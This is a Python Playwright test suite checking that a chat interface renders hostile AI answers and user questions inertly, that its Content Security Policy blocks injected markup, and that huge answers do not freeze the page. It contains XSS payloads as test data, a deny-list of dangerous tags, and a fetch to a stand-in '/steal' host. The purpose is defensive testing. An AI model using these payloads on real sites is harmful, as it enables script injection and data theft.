"""What a model writes does nothing, however it is written, and however much it is."""

import re

from playwright.sync_api import expect

from .driver import Reader

VIOLATIONS = """
    window.violations = [];
    const note = (event) => window.violations.push(event.violatedDirective);
    document.addEventListener("securitypolicyviolation", note);
"""

FORBIDDEN = (
    "script, style, iframe, form, img, svg:not(.icon), math, link, base, meta, input, object, "
    "[style], [onclick]"
)


def assert_inert(reader: Reader) -> None:
    page = reader.page
    assert page.evaluate("window.pwned") is None
    assert page.locator("#messages").locator(FORBIDDEN).count() == 0
    addresses = page.eval_on_selector_all(
        "#messages a", "(links) => links.map((link) => link.getAttribute('href'))"
    )
    assert all(address is None or re.match(r"https?://", address) for address in addresses), addresses
    assert page.locator("#messages [id], #messages p[class]").count() == 0
    expect(page.locator("#composer")).to_have_count(1)


def test_hostile_answers_are_inert(reader: Reader) -> None:
    reader.page.evaluate(VIOLATIONS)
    reader.chat("hi", "hostile")
    reader.answer.locator(".thoughts summary").click()
    expect(reader.said).to_contain_text("the end")
    expect(reader.answer.locator(".thoughts .markdown")).to_contain_text("the end")
    assert_inert(reader)
    picture = reader.said.get_by_role("link", name="a picture (image)")
    assert picture.get_attribute("href") == "http://198.51.100.7/picture.png"
    assert reader.said.get_by_role("link", name="good").get_attribute("rel") == "noopener noreferrer"
    expect(reader.said.locator("sub")).to_have_text(["2"])
    expect(reader.said).to_contain_text("window.pwned = 1; alert(1)")
    # As code it is shown as it was written.
    expect(reader.said.locator(".code pre")).to_contain_text("</code></pre><script>window.pwned = 11")
    # The policy of the page has not even been needed: nothing of it was read as markup.
    assert reader.page.evaluate("window.violations") == []


def test_hostile_questions_and_titles_are_inert(reader: Reader) -> None:
    evil = "<img src=x onerror=alert(1)><script>window.pwned = 1</script>"
    reader.chat(evil, "hello")
    expect(reader.questions).to_have_text([evil])
    expect(reader.conversations).to_have_text([re.compile("<img src=x")])
    reader.reload()
    expect(reader.questions).to_have_text([evil])
    assert_inert(reader)


def test_the_policy_holds_where_nothing_else_would(reader: Reader) -> None:
    """If markup got through, it would be stopped by the browser."""
    reader.watch.allow("Content Security Policy", "198.51.100.7")
    reader.page.evaluate(VIOLATIONS)
    reader.page.evaluate("""
        const box = document.createElement("div");
        box.innerHTML = "<img src='http://198.51.100.7/x.png' onerror='window.pwned = 1'>";
        box.innerHTML += "<b style='color: red'>x</b>";
        document.body.append(box);
        fetch("http://198.51.100.7/steal").catch(() => {});
    """)
    reader.page.wait_for_function("() => window.violations.length >= 4")
    blocked = reader.page.evaluate("window.violations")
    assert {"img-src", "style-src-attr", "connect-src"} <= {*blocked}
    assert reader.page.evaluate("window.pwned") is None
    reader.watch.asked.clear()


TASKS = """
    window.longest = 0;
    const note = (list) => {
        for (const task of list.getEntries()) window.longest = Math.max(window.longest, task.duration);
    };
    new PerformanceObserver(note).observe({ type: "longtask" });
"""
STANDSTILL = 1500
"""Milliseconds in which a page may do nothing else, on a machine that is busy with other things, too."""


def test_a_line_of_200_kilobytes_does_not_freeze_the_page(reader: Reader) -> None:
    reader.page.evaluate(TASKS)
    reader.chat("hi", "long-line")
    assert len(reader.said.text_content() or "") > 200_000
    assert reader.page.evaluate("window.longest") < STANDSTILL


def test_an_answer_of_a_megabyte_does_not_freeze_the_page(reader: Reader) -> None:
    reader.page.evaluate(TASKS)
    reader.chat("hi", "huge")
    # All of it takes seconds, in which the page is used.
    reader.box.fill("meanwhile")
    expect(reader.said.locator("table").nth(5)).to_be_attached()
    expect(reader.box).to_have_value("meanwhile")
    assert reader.page.evaluate("window.longest") < STANDSTILL
    reader.reload()
    expect(reader.box).to_have_value("meanwhile")
    expect(reader.said.locator("table").nth(5)).to_be_attached()


def test_code_of_half_a_megabyte_does_not_freeze_the_page(reader: Reader) -> None:
    reader.page.evaluate(TASKS)
    reader.chat("hi", "long-code")
    assert (reader.said.locator("pre").text_content() or "").count("x = 1") == 100_000
    assert reader.page.evaluate("window.longest") < STANDSTILL
